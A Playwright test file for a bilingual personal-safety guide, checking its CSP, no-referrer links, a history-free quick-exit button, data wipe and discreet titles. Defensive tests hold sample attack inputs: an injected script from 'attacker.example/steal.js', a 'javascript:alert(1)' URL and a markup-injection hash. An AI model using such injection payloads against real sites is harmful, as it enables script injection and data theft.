import { test, expect } from '@playwright/test';

test.describe('privacy and JavaScript-free reading', () => {
  // A service worker would answer some requests itself; block it so every request is seen.
  test.use({ serviceWorkers: 'block' });

  // Every page, with JavaScript on and off, is visited by the crawl in crawl.spec.ts.
  test('every page carries a CSP that blocks an injected external script', async ({ page }) => {
    for (const path of ['/en/', '/ru/countries/kyrgyzstan/', '/en/checklists/documents/', '/en/search/']) {
      await page.goto(path);
      const csp = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
      expect(csp).toContain("default-src 'self'");
      expect(csp).toContain('script-src');
      const blocked = await page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener('securitypolicyviolation', (e) => resolve(e.blockedURI), { once: true });
            const s = document.createElement('script');
            s.src = 'https://attacker.example/steal.js';
            document.head.append(s);
            setTimeout(() => resolve('not blocked'), 3000);
          }),
      );
      expect(blocked).toBe('https://attacker.example/steal.js');
    }
  });

  test('outbound links are marked and send no referrer', async ({ page }) => {
    await page.goto('/en/countries/kazakhstan/sources/');
    const external = page.locator('main a[href^="http"]');
    expect(await external.count()).toBeGreaterThan(5);
    for (const rel of await external.evaluateAll((as) => as.map((a) => a.getAttribute('rel') ?? ''))) {
      expect(rel).toContain('noopener');
      expect(rel).toContain('noreferrer');
    }
    await expect(page.locator('meta[name="referrer"]')).toHaveAttribute('content', 'no-referrer');
    await expect(page.locator('ol.sources a.external').first()).toContainText('(leaves this site)');
  });
});

test.describe('quick exit', () => {
  test.use({ serviceWorkers: 'block' });
  const ruWikipedia = /^https:\/\/ru\.wikipedia\.org\/wiki\/%D0%97/;
  const enWikipedia = 'https://en.wikipedia.org/wiki/Main_Page';
  test.beforeEach(async ({ context }) => {
    // Stand-ins for the neutral sites, so the test never leaves this machine.
    await context.route(/^https:\/\/(\w+\.wikipedia\.org|www\.google\.com|www\.bbc\.com|yandex\.ru|neutral\.example|example\.org)\//, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>neutral</title><p>Weather</p>' }),
    );
  });

  test('after browsing several pages, the button leaves and Back does not return to the guide', async ({ page }) => {
    await page.goto('https://neutral.example/start');
    await page.goto('/ru/');
    // The country's card on the home page is one link: name, rating and its line.
    await page
      .locator('main')
      .getByRole('link', { name: /^Казахстан/ })
      .first()
      .click();
    await expect(page).toHaveURL(/\/ru\/countries\/kazakhstan\/$/);
    await page.locator('main a[href*="/ru/checklists/"]').first().click();
    await expect(page).toHaveURL(/\/ru\/checklists\/[a-z-]+\/(#[a-z-]+)?$/);
    // The address changes before the new page has its styles: measure the button once it has loaded.
    await page.waitForLoadState('load');
    const exit = page.getByRole('link', { name: 'Быстрый выход' });
    const box = await exit.boundingBox();
    expect(box!.y).toBeLessThan(120);
    expect(box!.height).toBeGreaterThanOrEqual(44);
    await exit.click();
    await expect(page).toHaveURL(ruWikipedia);
    await page.goBack();
    await expect(page).toHaveURL('https://neutral.example/start');
  });

  test('a search from the header and a jump link add no history entry either', async ({ page }) => {
    await page.goto('https://neutral.example/start');
    await page.goto('/en/countries/kyrgyzstan/');
    await page.keyboard.press('Tab'); // the skip link, a jump within the page
    await page.keyboard.press('Enter');
    await expect(page).toHaveURL(/#main$/);
    await page.getByRole('searchbox').first().fill('passport');
    await page.getByRole('searchbox').first().press('Enter');
    await expect(page).toHaveURL(/\/en\/search\//);
    // Until a page has loaded, its quick exit is an ordinary link (the safety page says so).
    await page.waitForLoadState('load');
    await page.getByRole('link', { name: 'Quick exit' }).click();
    await expect(page).toHaveURL(enWikipedia);
    await page.goBack();
    await expect(page).toHaveURL('https://neutral.example/start');
  });

  test('with normal history switched on, Back returns to pages of the guide', async ({ page }) => {
    await page.goto('/en/safety/');
    await page.getByLabel(/Normal history/).check();
    await page.getByRole('link', { name: 'Countries', exact: true }).first().click();
    await expect(page).toHaveURL(/\/en\/countries\/$/);
    await page.goBack();
    await expect(page).toHaveURL(/\/en\/safety\/$/);
  });

  test('the page goes blank at once, before the neutral site has loaded', async ({ page, context }) => {
    let served = false;
    let blanked!: () => void;
    const blank = new Promise<void>((resolve) => (blanked = resolve));
    await context.route(enWikipedia, async (route) => {
      // A slow connection: the neutral page arrives only once the guide has gone blank (or after
      // 1.5 s, if it never does), so the test waits for the event, not for a fixed time.
      await Promise.race([blank, new Promise((resolve) => setTimeout(resolve, 1500))]);
      served = true;
      await route.fulfill({ contentType: 'text/html', body: '<title>neutral</title>' });
    });
    await page.goto('/en/countries/kazakhstan/');
    // The page reports what a reader would see the moment it changes.
    await page.evaluate(() =>
      new MutationObserver(() => console.log(`shown:${document.body.checkVisibility()} title:${document.title}`)).observe(document.documentElement, {
        attributes: true,
      }),
    );
    let servedWhenBlank: boolean | undefined;
    const change = page.waitForEvent('console', {
      predicate: (m) => m.text().startsWith('shown:') && ((servedWhenBlank = served), blanked(), true),
      timeout: 2000,
    });
    await page.getByRole('link', { name: 'Quick exit' }).click();
    expect((await change).text()).toBe('shown:false title:');
    expect(servedWhenBlank, 'blank before the neutral page arrived').toBe(false);
    await expect(page).toHaveURL(enWikipedia);
  });

  test('pressing Shift three times on its own leaves', async ({ page }) => {
    await page.goto('/ru/threats/');
    for (let i = 0; i < 3; i++) await page.keyboard.press('Shift');
    await expect(page).toHaveURL(ruWikipedia);
  });

  test('typing capitals in the search box does not leave', async ({ page }) => {
    await page.goto('/en/threats/');
    const box = page.getByRole('searchbox').first();
    await box.focus();
    const text = 'Kazakhstan Kyrgyzstan Georgia';
    for (const ch of text) {
      // As a person types: Shift held down for each capital.
      if (ch === ch.toUpperCase() && ch !== ' ') {
        await page.keyboard.down('Shift');
        await page.keyboard.press(ch);
        await page.keyboard.up('Shift');
      } else await page.keyboard.press(ch === ' ' ? 'Space' : ch);
    }
    // Quick exit hides the page in the keydown handler itself, which has run when press() returns.
    expect(await page.evaluate(() => document.documentElement.hidden), 'quick exit started').toBe(false);
    await expect(page).toHaveURL(/\/en\/threats\/$/);
    await expect(box).toHaveValue(text);
  });

  test('the destination: Wikipedia by default, a chosen address, and the default again for a corrupt value', async ({ page }) => {
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto('/en/safety/');
    await expect(page.getByRole('link', { name: 'Quick exit' })).toHaveAttribute('href', enWikipedia);
    await expect(page.getByLabel(/Yandex Weather\. A Russian company/)).toBeVisible();

    const custom = page.getByLabel('A full address that starts with https://');
    await custom.fill('http://plain.example/');
    await custom.press('Enter');
    const said = page.locator('form[data-settings] [role="status"]');
    await expect(said).toHaveText(/^Not saved: enter a full address/);
    await custom.fill('https://example.org/weather');
    await custom.press('Enter');
    await expect(said).toHaveText('Saved on this device.');
    await page.goto('/en/countries/armenia/');
    await page.getByRole('link', { name: 'Quick exit' }).click();
    await expect(page).toHaveURL('https://example.org/weather');

    for (const corrupt of ['javascript:alert(1)', '{"url":', 'https://user:pw@example.org/', 'x'.repeat(5000)]) {
      await page.goto('/en/');
      await page.evaluate((v) => localStorage.setItem('atlas:v1:exit-url', v), corrupt);
      await page.goto('/en/countries/armenia/');
      await page.getByRole('link', { name: 'Quick exit' }).click();
      await expect(page).toHaveURL(enWikipedia);
    }
    await page.goto('/en/safety/');
    await expect(page.getByLabel('Wikipedia, main page (the default)')).toBeChecked();
    expect(errors).toEqual([]);
  });

  test('with the wipe setting on, quick exit erases what the site stored', async ({ page }) => {
    await page.goto('/en/safety/');
    await page.getByLabel(/Make quick exit also erase/).check();
    await page.goto('/en/checklists/documents/');
    await page.locator('.checklist-item input[type="checkbox"]').first().check();
    await page.getByRole('link', { name: 'Quick exit' }).click();
    await expect(page).toHaveURL(enWikipedia);
    await page.goto('/en/');
    expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('atlas:')))).toEqual([]);
  });

  test('an erase that never finishes does not hold the reader on the page: quick exit leaves anyway', async ({ page }) => {
    // A browser whose worker and cache APIs hang (a stuck disk, a busy phone): the wipe cannot finish.
    await page.addInitScript(() => {
      const never = () => new Promise<never>(() => {});
      if (globalThis.ServiceWorkerContainer) ServiceWorkerContainer.prototype.getRegistrations = never;
      if (globalThis.CacheStorage) CacheStorage.prototype.keys = never;
    });
    await page.goto('/en/safety/');
    await page.getByLabel(/Make quick exit also erase/).check();
    await page.getByRole('link', { name: 'Quick exit' }).click();
    await expect(page.locator('html')).toBeHidden();
    await expect(page).toHaveURL(enWikipedia);
  });

  test.describe('with JavaScript off', () => {
    test.use({ javaScriptEnabled: false });
    test('quick exit is a plain link to the neutral default', async ({ page }) => {
      await page.goto('/ru/countries/georgia/');
      await page.getByRole('link', { name: 'Быстрый выход' }).click();
      await expect(page).toHaveURL(ruWikipedia);
    });
  });
});

test('discreet titles: the tab shows a neutral title on every page, and the installed app has a neutral name', async ({ page, request }) => {
  await page.goto('/en/safety/');
  await page.getByLabel(/Discreet titles/).check();
  await expect(page).toHaveTitle('Notes');
  await page.goto('/en/countries/kazakhstan/');
  await expect(page).toHaveTitle('Notes');
  await page.goto('/ru/checklists/if-detained/');
  await expect(page).toHaveTitle('Заметки');
  await page.goto('/en/safety/');
  await page.getByLabel(/Discreet titles/).uncheck();
  await expect(page).toHaveTitle(/Read this site safely/);
  await page.goto('/en/countries/kazakhstan/');
  await expect(page).toHaveTitle(/Kazakhstan/);
  for (const lang of ['en', 'ru']) {
    const manifest = await (await request.get(`/${lang}/manifest.webmanifest`)).json();
    expect([manifest.name, manifest.short_name].join(' ')).not.toMatch(/Exile|эмиграц|безопасност|Safety/i);
  }
});

test('unknown hashes and malformed query strings do not break pages', async ({ page }) => {
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto('/en/checklists/documents/#does-not-exist%');
  await page.goto('/en/checklists/documents/#"><img src=x>');
  await page.goto('/ru/countries/kyrgyzstan/?%E0%A4%A=1&q=%');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(errors).toEqual([]);
});
